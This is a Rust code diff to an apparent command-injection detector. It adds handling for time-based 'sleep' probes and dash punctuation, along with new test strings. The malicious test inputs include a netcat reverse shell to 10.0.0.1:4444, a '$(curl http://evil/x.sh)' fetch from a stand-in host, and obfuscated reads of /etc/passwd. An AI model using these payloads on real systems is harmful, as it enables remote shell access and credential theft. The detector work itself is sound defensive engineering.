@@ -309,6 +309,10 @@ enum Sep {
 fn argish(rest: &str) -> bool {
     let r = rest.trim_start();
     let first = r.split(char::is_whitespace).next().unwrap_or("");
+    // A dash alone (`--`, `-`) is prose punctuation, not an option.
+    if !first.is_empty() && first.bytes().all(|c| c == b'-') {
+        return false;
+    }
     first.starts_with([
         '-', '/', '.', '$', '>', '<', '|', '~', '%', '\\', '{', '(', '&', ';',
     ]) || first.contains('/')
@@ -422,7 +426,15 @@ impl Rce {
                 .iter()
                 .any(|d| word.contains(d));
         let known = self.lookup(name);
-        let args = argish(rest);
+        // `sleep 5` and nothing more: the probe of time-based blind injection.
+        let delay = matches!(name, "sleep" | "usleep") && {
+            let mut words = rest.split_whitespace();
+            words
+                .next()
+                .is_some_and(|w| w.trim_end_matches(['s', 'm']).parse::<f32>().is_ok())
+                && words.next().is_none()
+        };
+        let args = argish(rest) || delay;
         let end = rest.trim().is_empty();
         match (sep, known) {
             (Sep::Substitution, Some(true)) if args || (end && name.len() > 3) => 0.9,
@@ -432,7 +444,7 @@ impl Rce {
             // `$(document)`, `$(name)`: jQuery and template syntax look the same.
             (Sep::Dollar, None) => 0.0,
             (_, _) if bin_dir && !name.is_empty() => 0.88,
-            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 => 0.9,
+            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 || has_option(rest) => 0.9,
             (Sep::Explicit, Some(true)) => 0.6,
             (Sep::Explicit, Some(false)) if args => 0.85,
             (Sep::Explicit, Some(false)) if end && name.len() <= 4 => 0.72,
@@ -947,6 +959,9 @@ mod tests {
             "1 && whoami",
             "`uname -a`",
             "`id`",
+            ";sleep 5;",
+            "`sleep 5`",
+            ";nc 10.0.0.1 4444 -e /bin/sh",
             "cat /etc/pa{s,}s?d",
             "{,/?s?/?i?/c?t,/e??/p??s??,}",
             "$(curl http://evil/x.sh)",
@@ -998,6 +1013,9 @@ mod tests {
             "time to go",
             "I'd like to update my order - the union of both -- please help",
             "What? Why*? [note]",
+            "Kids asleep; sleep 8 hours a night",
+            "Hi; nc -- what does that mean",
+            "Lunch; sleep 20 minutes after",
         ] {
             let s = arg(&*d, v);
             assert!(s < 0.7, "{v}: {s}");
